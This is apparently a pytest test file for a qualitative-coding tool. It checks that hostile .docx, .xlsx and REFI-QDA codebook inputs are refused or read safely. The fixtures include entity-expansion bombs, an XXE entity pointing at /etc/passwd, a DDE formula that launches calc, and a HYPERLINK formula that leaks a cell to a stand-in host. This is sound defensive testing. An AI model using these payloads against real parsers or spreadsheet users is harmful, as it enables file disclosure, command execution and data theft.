"""Hostile XML and spreadsheets: entity expansion in .docx and .xlsx, REFI-QDA
codebooks (.qdc) that are pipes, too large, too deep or in UTF-32, formulas
in the coding sheet ``codingkit suggest`` writes, and filled-in coding sheets
with stale or hostile dimensions, odd turn numbers and names that start with
a tab. Each is refused with one line naming the file (and row), or read as
written."""

from __future__ import annotations

import os
import threading
import warnings
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from click.testing import CliRunner

from codingkit import InputError
from codingkit.cli import cli
from codingkit.errors import EvaluationError, RefiQdaError
from codingkit.evaluation import read_human_coding
from codingkit.readers import read_transcript
from codingkit.refiqda import read_qdc

GUID = "0F0F0F0F-AAAA-4BBB-8CCC-{:012X}"


def _zip(path: Path, members: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def _quiet(fn):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return fn()


# ------------------------------------------------------------------ .docx


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PKG = "http://schemas.openxmlformats.org/package/2006"


def _docx_with(tmp_path: Path, name: str, dtd: bytes, run_text: bytes) -> Path:
    """A .docx of the three parts Word needs (a few hundred bytes unpacked
    besides ``dtd`` and ``run_text``), a DTD in its document.xml."""
    document = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + dtd
                + b'<w:document xmlns:w="' + W_NS.encode() + b'"><w:body>'
                b"<w:p><w:r><w:t>I: Hur b\xc3\xb6rjade ni?</w:t></w:r></w:p>"
                b"<w:p><w:r><w:t>" + run_text + b"</w:t></w:r></w:p></w:body></w:document>")
    return _zip(tmp_path / name, {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PKG}/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>"),
        "word/document.xml": document,
    })


def test_docx_entities_that_expand_past_the_limit_are_refused(tmp_path, monkeypatch):
    """A few bytes of references standing for far more text (a 21 kB entity
    referenced 40 times; 1.5 MB x 120 took a 77 kB .docx to 180 million
    characters in 26 s) count against the unpacked size limit."""
    monkeypatch.setenv("CODINGKIT_MAX_FILE_MB", "0.2")
    p = _docx_with(tmp_path, "svall.docx",
                   b'<!DOCTYPE w:document [<!ENTITY a "' + b"Vi bjuder in. " * 1_500 + b'">]>',
                   b"IP: " + b"&a;" * 40)
    with pytest.raises(InputError) as info:
        _quiet(lambda: read_transcript(p))
    assert str(info.value) == (
        f"{p}: with its XML entities expanded, the document is 861,415 bytes, over the "
        "limit of 200,000 bytes; to read it, raise the limit, e.g. CODINGKIT_MAX_FILE_MB=1 "
        "[E112]")
    # within the limit, the entities are still read (as before)
    monkeypatch.setenv("CODINGKIT_MAX_FILE_MB", "1")
    [t] = _quiet(lambda: read_transcript(p))
    assert t.text.count("Vi bjuder in.") == 40 * 1_500


def test_docx_many_entity_references_are_replaced_in_linear_time(tmp_path):
    """200,000 references to a one-letter entity in one run (a .docx of a few
    kB; libxml2 lets that many through after 6 MB of plain text) took 48 s
    when each reference was added to the text one at a time (the time
    growing with the square of their number); now about 1 s (measured by
    hand; the test checks the text, a slow reader shows in the suite's time)."""
    turns = b"IP: " + b"Vi bjuder in. " * 10_000 + b"</w:t></w:r></w:p><w:p><w:r><w:t>"
    p = _docx_with(tmp_path, "referenser.docx", b'<!DOCTYPE w:document [<!ENTITY a "x">]>',
                   turns * 45 + b"IP: " + b"&a;" * 200_000 + b" slut")
    [t] = read_transcript(p)
    assert t.text.endswith("Vi bjuder in. \nIP: " + "x" * 200_000 + " slut")


# ------------------------------------------------------------------ .xlsx


def test_openpyxl_parses_workbooks_with_defusedxml():
    """openpyxl's own guard against entity expansion: it parses sheets and
    shared strings with defusedxml when that is installed (a dependency)."""
    assert openpyxl.DEFUSEDXML is True


def _survey_with_entity(tmp_path: Path) -> Path:
    import pandas as pd

    good = tmp_path / "bra.xlsx"
    # XlsxWriter writes the strings into xl/sharedStrings.xml (openpyxl inline)
    pd.DataFrame({"svar": ["PLATS", "Bra dialog"]}).to_excel(good, index=False,
                                                             engine="xlsxwriter")
    members = _members(good)
    sst = members["xl/sharedStrings.xml"]
    end = sst.index(b"?>") + 2
    members["xl/sharedStrings.xml"] = (
        sst[:end] + b'<!DOCTYPE sst [<!ENTITY a "leverant\xc3\xb6rsdialog">]>'
        + sst[end:].replace(b"PLATS", b"&a; &a; &a;"))
    return _zip(tmp_path / "enkat.xlsx", members)


def test_survey_workbook_declaring_entities_is_refused(tmp_path):
    """Before: the entity was expanded by the standard library's parser, so a
    50 kB survey (41 MB unpacked, within the limit) held 200 answers of 1 MB
    each (105 s to read); now any entity declaration is refused."""
    p = _survey_with_entity(tmp_path)
    with pytest.raises(InputError) as info:
        _quiet(lambda: read_transcript(p))
    text = str(info.value)
    assert text.startswith(f"{p}: refused: the workbook's XML declares entities")
    assert text.endswith("[E106]") and "\n" not in text


def _sheet_xml(rows_xml: str, dimension: str | None) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"{dim}<sheetData>{rows_xml}</sheetData></worksheet>")


HEADER = ["source", "turn", "project", "round", "role", "question", "text", "codingkit",
          "behov", "resurser", "comment"]


def _col(j: int) -> str:
    return openpyxl.utils.get_column_letter(j + 1)


def _cell(ref: str, v) -> str:
    if v is None:
        return ""
    if isinstance(v, bool):
        return f'<c r="{ref}" t="b"><v>{int(v)}</v></c>'
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(v)}</t></is></c>'


def _row_xml(r: int, values) -> str:
    return f'<row r="{r}">' + "".join(_cell(f"{_col(j)}{r}", v)
                                      for j, v in enumerate(values)) + "</row>"


def _row(turn=2, behov=None, resurser=None, source="a.txt"):
    return [source, turn, "P", "1", "upphandlare", "Hur?", "Svar.", "", behov, resurser, None]


def _workbook(path: Path, rows=(), *, dimension: str | None = None, rows_xml: str | None = None,
              doctype: str = "") -> Path:
    """A coding sheet as Excel stores it (inline strings), its XML written by hand."""
    if rows_xml is None:
        rows_xml = "".join(_row_xml(i, r) for i, r in enumerate([HEADER, *rows], start=1))
    sheet = _sheet_xml(rows_xml, dimension)
    if doctype:
        end = sheet.index("?>") + 2
        sheet = sheet[:end] + doctype + sheet[end:]
    ns = "http://schemas.openxmlformats.org"
    return _zip(path, {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{ns}/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
            'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}/spreadsheetml/2006/'
            f'main" xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet '
            'name="Kodning" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/worksheets/sheet1.xml": sheet,
    })


def test_coding_sheet_declaring_entities_is_refused(tmp_path):
    rows_xml = (_row_xml(1, HEADER)
                + _row_xml(2, _row(behov=1, source="PLATS")).replace("PLATS", "&a;"))
    p = _workbook(tmp_path / "granska.xlsx", rows_xml=rows_xml,
                  doctype='<!DOCTYPE worksheet [<!ENTITY a "a.txt">]>')
    with pytest.raises(EvaluationError) as info:
        read_human_coding(p)
    assert str(info.value) == (
        f"{p}: refused: the workbook's XML declares entities (entity expansion is not "
        "allowed); expected a coding sheet written by 'codingkit suggest' [E602]")


@pytest.mark.parametrize("where", ["in one row", "between rows"])
def test_workbook_with_millions_of_tiny_elements_is_refused_before_openpyxl(
        tmp_path, monkeypatch, where):
    """openpyxl keeps every element of a row, and every element it does not know
    outside the rows, until the sheet ends: 44 kB of zip with 11 million empty
    elements in one row (44 MB unpacked, within the size limit) took 3.5 GB
    and 78 s. Here the limit is lowered (1,000 elements at 0.025 MB)."""
    monkeypatch.setenv("CODINGKIT_MAX_SURVEY_MB", "0.025")
    cells = [f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Svar {r}.</t></is></c></row>'
             for r in range(2, 202)]  # 200 answers: 4 elements a row
    if where == "in one row":
        cells[0] = cells[0].replace("</c></row>", "</c>" + "<x/>" * 2_000 + "</row>")
    else:
        cells = [c + "<x/>" * 10 for c in cells]
    rows_xml = '<row r="1"><c r="A1" t="inlineStr"><is><t>svar</t></is></c></row>' + "".join(
        cells)
    p = _workbook(tmp_path / "enkat.xlsx", rows_xml=rows_xml)
    # the largest row's elements and all outside the rows (an emptied row stays one)
    held = 2_003 + 204 if where == "in one row" else 3 + 2_000 + 204
    with pytest.raises(InputError) as info:
        _quiet(lambda: read_transcript(p))
    assert str(info.value) == (
        f"{p}: the workbook part xl/worksheets/sheet1.xml would keep {held:,} XML elements in "
        "memory at once (in one row, or outside the rows), over the limit of 1,000; expected "
        "a workbook as a spreadsheet program writes it; to read it, raise the limit, e.g. "
        "CODINGKIT_MAX_SURVEY_MB=1 [E112]")
    # the same rows without the extra elements: 200 answers, within the limit
    plain = _workbook(tmp_path / "vanlig.xlsx", rows_xml=rows_xml.replace("<x/>", ""))
    assert len(_quiet(lambda: read_transcript(plain))) == 200


# ------------------------------------------------------------------ .qdc


def _qdc(depth: int, *, doctype: str = "", encoding: str = "utf-8") -> bytes:
    opening = "".join(f'<Code guid="{GUID.format(i)}" name="k{i}" isCodable="true">'
                      for i in range(depth))
    return (f'<?xml version="1.0" encoding="{encoding.upper()}"?>{doctype}'
            '<CodeBook xmlns="urn:QDA-XML:codebook:1:0"><Codes>'
            f"{opening}{'</Code>' * depth}</Codes></CodeBook>").encode(encoding)


def test_qdc_named_pipe_does_not_block(tmp_path):
    """A FIFO named koder.qdc waited for a writer forever (import-codebook,
    validate, apply --codebook); a link to /dev/zero filled the memory."""
    fifo = tmp_path / "koder.qdc"
    os.mkfifo(fifo)
    caught: list[BaseException] = []

    def read() -> None:
        try:
            read_qdc(fifo)
        except BaseException as exc:  # noqa: BLE001 - looked at below
            caught.append(exc)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    reader.join(30)
    if reader.is_alive():  # blocked in open(): let it go before failing
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(5)
        pytest.fail("reading a named pipe named .qdc blocked")
    message = (f"{fifo}: is a named pipe (FIFO), not a regular file; expected a .qdc "
               "codebook file [E111]")
    assert [type(e) for e in caught] == [InputError] and str(caught[0]) == message
    out = tmp_path / "kb.yaml"
    r = CliRunner().invoke(cli, ["import-codebook", str(fifo), "--out", str(out)])
    assert r.exit_code == 1 and r.output == f"Error: {message}\n" and not out.exists()
    zero = tmp_path / "noll.qdc"
    zero.symlink_to("/dev/zero")
    with pytest.raises(InputError, match=r"noll\.qdc: is a character device, not a regular "
                                         r"file; expected a \.qdc codebook file \[E111\]"):
        read_qdc(zero)


def test_qdc_over_the_size_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    p = tmp_path / "stor.qdc"
    p.write_bytes(_qdc(3) + b" " * 2_000)
    monkeypatch.setenv("CODINGKIT_MAX_FILE_MB", "0.001")
    with pytest.raises(InputError) as info:
        read_qdc(p)
    assert str(info.value) == (
        f"{p}: the file is {p.stat().st_size:,} bytes, over the limit of 1,000 bytes; to "
        "read it, raise the limit, e.g. CODINGKIT_MAX_FILE_MB=1 [E112]")


def test_qdc_codes_nested_too_deep_are_refused_in_one_line(tmp_path):
    """250 levels: import-codebook stopped with an internal error (RecursionError
    writing the YAML); 50 to 249 levels: it wrote a YAML codebook that codingkit
    cannot read back (E202, nested over 100)."""
    p = tmp_path / "djup.qdc"
    p.write_bytes(_qdc(250))
    out = tmp_path / "kb.yaml"
    r = CliRunner().invoke(cli, ["import-codebook", str(p), "--out", str(out)])
    assert r.exit_code == 1 and not out.exists()
    assert r.output == (f"Error: {p}: Code 'k40' is nested more than 40 levels deep; expected "
                        "a code hierarchy of a few levels [E504]\n")
    p.write_bytes(_qdc(40))  # the deepest read, and its YAML reads back
    r = CliRunner().invoke(cli, ["import-codebook", str(p), "--out", str(out)])
    assert r.exit_code == 0, r.output
    r = CliRunner().invoke(cli, ["validate", str(out)])
    assert r.exit_code == 0 and "40 codes" in r.output, r.output


@pytest.mark.parametrize("encoding", ["utf-32-le", "utf-32-be"])
def test_qdc_doctype_in_utf32_is_refused_as_such(tmp_path, encoding):
    p = tmp_path / "xxe.qdc"
    p.write_bytes(_qdc(1, encoding=encoding,
                       doctype='<!DOCTYPE CodeBook [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))
    with pytest.raises(RefiQdaError) as info:
        read_qdc(p)
    assert str(info.value) == (f"{p}: refused: the XML declares a DOCTYPE or ENTITY (entity "
                               "expansion is not allowed); expected plain REFI-QDA XML [E510]")


# ------------------------------------------------------- filled-in coding sheets


def test_coding_sheet_with_a_stale_dimension_is_read_whole(tmp_path):
    """A dimension A1:I2 (written by some tools and never updated) made
    openpyxl's read-only mode stop at row 2 and column I: 9 of 10 turns and
    the theme resurser were dropped without a word."""
    p = _workbook(tmp_path / "granska.xlsx",
                  [_row(turn=t, behov=1, resurser=t % 2) for t in range(2, 12)],
                  dimension="A1:I2")
    human = read_human_coding(p)
    assert sorted(human.turns.turn) == list(range(2, 12))
    assert sorted(set(human.codings.code)) == ["behov", "resurser"]


def test_coding_sheet_hostile_dimension_reads_rows_as_wide_as_the_header(tmp_path,
                                                                          monkeypatch):
    """A dimension A1:XFD1048576 made every row 16,384 cells (a 1 kB sheet with a
    last row 1,048,576 took 189 s; 900,000 rows each with one cell at XFD,
    311 s); now a row is read as wide as the header."""
    from openpyxl.worksheet._read_only import ReadOnlyWorksheet

    made = []
    cells_by_row = ReadOnlyWorksheet._cells_by_row

    def counting(self, *args, **kwargs):
        for row in cells_by_row(self, *args, **kwargs):
            made.append(len(row))
            yield row

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", counting)
    rows_xml = (_row_xml(1, HEADER) + _row_xml(2, _row(behov=1))
                + "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>'
                          for r in range(3, 300)))
    p = _workbook(tmp_path / "granska.xlsx", rows_xml=rows_xml, dimension="A1:XFD1048576")
    human = read_human_coding(p)
    assert list(human.codings.itertuples(index=False, name=None)) == [("a.txt", 2, "behov")]
    assert sum(made) < 300 * len(HEADER) + 16_384


def test_coding_sheet_over_its_cell_budget_names_the_row(tmp_path, monkeypatch):
    """Each row counts as wide as the header, the rows a sheet skips too: a
    small file cannot make the reading loop run for long."""
    monkeypatch.setenv("CODINGKIT_MAX_SURVEY_MB", "0.01")  # 10,000 bytes and cells
    rows_xml = (_row_xml(1, HEADER) + _row_xml(2, _row(behov=1))
                + _row_xml(100_000, _row(turn=3, behov=1)))
    p = _workbook(tmp_path / "granska.xlsx", rows_xml=rows_xml)
    with pytest.raises(EvaluationError) as info:
        read_human_coding(p)
    assert str(info.value) == (
        f"{p}, line 910: the sheet holds over 10,000 cells up to this row (each row counted "
        "to its last cell), over the limit; to read it, raise the limit, e.g. "
        "CODINGKIT_MAX_SURVEY_MB=1 [E602]")


@pytest.mark.parametrize("turn, shown", [
    ("²", "'²'"),                        # str.isdigit() is true, int() fails: was E602 ValueError
    ("٣", "'٣'"),                        # an Arabic-Indic digit: was read as turn 3
    ("1234567890", "'1234567890'"),      # over 9 digits, as in a human-coding CSV
    (1e300, "1e+300"),
])
def test_coding_sheet_turn_must_be_a_plain_whole_number(tmp_path, turn, shown):
    p = _workbook(tmp_path / "granska.xlsx", [_row(behov=1), _row(turn=turn, behov=1)])
    with pytest.raises(EvaluationError) as info:
        read_human_coding(p)
    assert str(info.value) == (f"{p}, line 3: cell B3: turn must be a whole number (at most "
                               f"9 digits), got {shown} [E603]")


def test_coding_sheet_values_read_sensibly(tmp_path):
    """What a spreadsheet stores for 0/1: numbers, booleans, text with spaces,
    a formula's cached value; rows sorted otherwise, some deleted; an empty
    column added at the end."""
    rows_xml = (_row_xml(1, [*HEADER, "anteckning"])
                + _row_xml(2, [*_row(turn=9, behov=True, resurser=" 0 "), ""])
                + _row_xml(4, _row(turn=2, behov=1.0, resurser=0))
                + '<row r="7"><c r="A7" t="inlineStr"><is><t>a.txt</t></is></c>'
                  '<c r="B7"><v>5</v></c><c r="J7"><f>1-0</f><v>1</v></c></row>')
    p = _workbook(tmp_path / "granska.xlsx", rows_xml=rows_xml)
    human = read_human_coding(p)
    assert sorted(human.codings.itertuples(index=False, name=None)) == [
        ("a.txt", 2, "behov"), ("a.txt", 5, "resurser"), ("a.txt", 9, "behov")]
    assert sorted(human.turns.turn) == [2, 5, 9]


# ---------------------------------------------- formulas in the sheet suggest writes


ANSWERS = {
    "=HYPERLINK(1).txt": ("+cmd|' /C calc'!A0 Vi bjöd in leverantörerna till en dialogträff "
                          "innan vi skrev underlaget.",
                          "-Budgeten räckte inte, vi sökte pengar från Vinnova men fick nej."),
    "\t=flik.txt": ("@SUM(1+1) Personalen måste vara med från början annars fungerar "
                    "ingenting i verksamheten.",
                    "\t=Vi samverkade med kommunerna i regionen kring kravställningen."),
    " inledande.txt": ("=1+1 Riskerna med att upphandla innovation var stora för "
                       "förvaltningen.", "Vi lärde oss att förankra projektet hos ledningen."),
}


def test_suggest_sheet_holds_formulas_as_text_and_reads_names_back_exactly(tmp_path):
    """File names, metadata, questions and answers that start with =, +, -, @
    or a tab are text cells (never <f>), and --learn-from reads the sources
    back as written: a source '\\t=flik.txt' was stripped to '=flik.txt' and
    its turns did not fall on any transcript (E606)."""
    iv = tmp_path / "iv"
    iv.mkdir()
    for name, (first, second) in ANSWERS.items():
        (iv / name).write_text(
            "Projekt: =1+1\nOmgång: @2\nRoll: -upphandlare\n\n"
            'I: =HYPERLINK("http://x.example/?leak="&A1,"klicka") Hur började ni?\n'
            f"IP: {first}\nI: @SUM(1+1) Och sedan?\nIP: {second}\n", encoding="utf-8")
    sheet = tmp_path / "granska.xlsx"
    r = CliRunner().invoke(cli, ["suggest", str(iv), "--n", "10", "--out", str(sheet)])
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(sheet) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(sheet)
    ws = book["Kodning"]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    assert {row[0].value for row in rows} == set(ANSWERS)
    for row in rows:
        for c in row:  # text cells, but the turn number and the empty theme cells
            assert c.data_type != "f", (c.coordinate, c.value)
            assert c.data_type != "n" or c.column == 2 or c.value is None, c.coordinate
        assert [c.value for c in row[2:5]] == ["=1+1", "@2", "-upphandlare"]
    behov = header.index("behov")
    for row in rows:
        row[behov].value = 1
    filled = tmp_path / "ifylld.xlsx"
    book.save(filled)
    human = read_human_coding(filled)
    assert set(human.turns.source) == set(ANSWERS)
    assert len(human.turns) == len(rows) == 6
